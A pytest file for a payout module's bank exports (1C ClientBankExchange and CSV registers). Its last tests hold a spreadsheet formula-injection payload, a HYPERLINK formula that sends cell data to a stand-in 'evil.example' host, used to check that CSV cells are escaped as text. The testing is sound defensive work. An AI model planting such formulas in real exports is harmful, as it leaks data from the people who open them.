"""The register files for the bank (issue 6, part 7): 1CClientBankExchange in windows-1251 with
CRLF line ends, one payment order per payout, and CSV."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

from partnerhub.payouts.bank_formats import (
    Party,
    PaymentOrder,
    Register,
    client_bank_exchange,
    purpose_text,
    register_csv,
)

VENDOR = Party(
    name="ООО «1С-Битрикс»",
    inn="7717586110",
    kpp="771701001",
    account="40702810555000000077",
    bank_name="ПАО Сбербанк",
    bik="044030653",
    correspondent_account="30101810500000000653",
)
ALFA = Party(
    name="ООО «Альфа»",
    inn="7707083893",
    kpp="773601001",
    account="40702810938000000001",
    bank_name="ПАО Сбербанк",
    bik="044525225",
    correspondent_account="30101810400000000225",
)


def register(*orders: PaymentOrder) -> Register:
    return Register(
        payer=VENDOR,
        created_at=dt.datetime(2026, 6, 22, 9, 30, 15),
        start=dt.date(2026, 6, 22),
        end=dt.date(2026, 6, 22),
        orders=orders,
    )


def order(number: str, amount: str, purpose: str) -> PaymentOrder:
    return PaymentOrder(
        number=number,
        date=dt.date(2026, 6, 22),
        amount=Decimal(amount),
        payer=VENDOR,
        recipient=ALFA,
        purpose=purpose,
    )


def lines_of(data: bytes) -> list[str]:
    text = data.decode("cp1251")
    assert text.endswith("\r\n")
    chunks = text.split("\r\n")[:-1]
    assert all("\n" not in c and "\r" not in c for c in chunks)
    return chunks


def test_every_line_ends_with_crlf_and_the_text_is_windows_1251():
    data = client_bank_exchange(register(order("17", "6000.00", "Выплата")))

    lines = lines_of(data)

    assert data.count(b"\r\n") == len(lines)
    assert data.count(b"\n") == len(lines)  # no bare LF anywhere
    assert "Выплата".encode("cp1251") in data


def test_the_header_names_the_format_the_dates_and_the_vendor_account():
    lines = lines_of(client_bank_exchange(register(order("17", "6000.00", "Выплата"))))

    assert lines[0] == "1CClientBankExchange"
    assert "ВерсияФормата=1.03" in lines
    assert "Кодировка=Windows" in lines
    assert "ДатаСоздания=22.06.2026" in lines
    assert "ВремяСоздания=09:30:15" in lines
    assert "ДатаНачала=22.06.2026" in lines
    assert "ДатаКонца=22.06.2026" in lines
    assert "РасчСчет=40702810555000000077" in lines
    assert any(line.startswith("Отправитель=") for line in lines)
    assert any(line.startswith("Получатель=") for line in lines[:12])
    assert lines[-1] == "КонецФайла"


def test_one_payment_order_per_payout_with_payer_and_recipient():
    lines = lines_of(
        client_bank_exchange(
            register(order("17", "6000.00", "По акту 1"), order("18", "7345.67", "По акту 2"))
        )
    )

    assert lines.count("СекцияДокумент=Платежное поручение") == 2
    assert lines.count("КонецДокумента") == 2
    first = lines[lines.index("СекцияДокумент=Платежное поручение") : lines.index("КонецДокумента")]
    for expected in (
        "Номер=17",
        "Дата=22.06.2026",
        "Сумма=6000.00",
        "ПлательщикСчет=40702810555000000077",
        "Плательщик=ООО «1С-Битрикс»",
        "ПлательщикИНН=7717586110",
        "ПлательщикКПП=771701001",
        "ПлательщикБанк1=ПАО Сбербанк",
        "ПлательщикБИК=044030653",
        "ПлательщикКорсчет=30101810500000000653",
        "ПолучательСчет=40702810938000000001",
        "Получатель=ООО «Альфа»",
        "ПолучательИНН=7707083893",
        "ПолучательКПП=773601001",
        "ПолучательБанк1=ПАО Сбербанк",
        "ПолучательБИК=044525225",
        "ПолучательКорсчет=30101810400000000225",
        "ВидОплаты=01",
        "Очередность=5",
        "НазначениеПлатежа=По акту 1",
    ):
        assert expected in first
    assert "Сумма=7345.67" in lines


def test_purpose_without_vat():
    text = purpose_text(
        act_number="А-2026-00001",
        act_date=dt.date(2026, 6, 4),
        vat_rate=None,
        vat_amount=Decimal("0.00"),
    )

    assert text == "Выплата вознаграждения по акту № А-2026-00001 от 04.06.2026. НДС не облагается"


def test_purpose_with_vat_22_percent_of_6000():
    text = purpose_text(
        act_number="А-2026-00002",
        act_date=dt.date(2026, 6, 4),
        vat_rate=Decimal("22.00"),
        vat_amount=Decimal("1081.97"),
    )

    assert text.endswith("В т.ч. НДС 22% - 1081.97 руб.")
    assert "А-2026-00002 от 04.06.2026" in text


def test_a_line_break_in_a_value_cannot_split_a_line():
    lines = lines_of(client_bank_exchange(register(order("1", "6000.00", "строка\r\nещё"))))

    assert "НазначениеПлатежа=строка ещё" in lines


def test_csv_has_a_header_and_a_row_per_payout_with_a_decimal_comma():
    data = register_csv(register(order("17", "6000.00", "По акту 1")))

    assert data.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    assert rows[0][:3] == ["Номер", "Дата", "Сумма"]
    assert rows[1][:4] == ["17", "22.06.2026", "6000,00", "ООО «Альфа»"]
    assert rows[1][-1] == "По акту 1"


HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A2,"Beta")'


def hostile_order(amount: str = "6000.00") -> PaymentOrder:
    recipient = Party(**{**ALFA.__dict__, "name": HOSTILE_NAME})
    return PaymentOrder(
        number="18",
        date=dt.date(2026, 6, 22),
        amount=Decimal(amount),
        payer=VENDOR,
        recipient=recipient,
        purpose="+7 (495) 000-00-00 @evil",
    )


def test_csv_cells_that_a_spreadsheet_reads_as_formulas_are_text():
    data = register_csv(register(hostile_order()))

    row = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))[1]
    assert row[3] == "'" + HOSTILE_NAME
    assert row[-1] == "'+7 (495) 000-00-00 @evil"
    assert row[2] == "6000,00"


def test_a_negative_amount_stays_a_number_in_the_csv():
    data = register_csv(register(hostile_order("-1500.5")))

    row = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))[1]
    assert row[2] == "-1500,50"
    assert Decimal(row[2].replace(",", ".")) == Decimal("-1500.50")


def test_the_1c_exchange_file_keeps_the_exact_text():
    lines = lines_of(client_bank_exchange(register(hostile_order())))

    assert f"Получатель={HOSTILE_NAME}" in lines
    assert "НазначениеПлатежа=+7 (495) 000-00-00 @evil" in lines
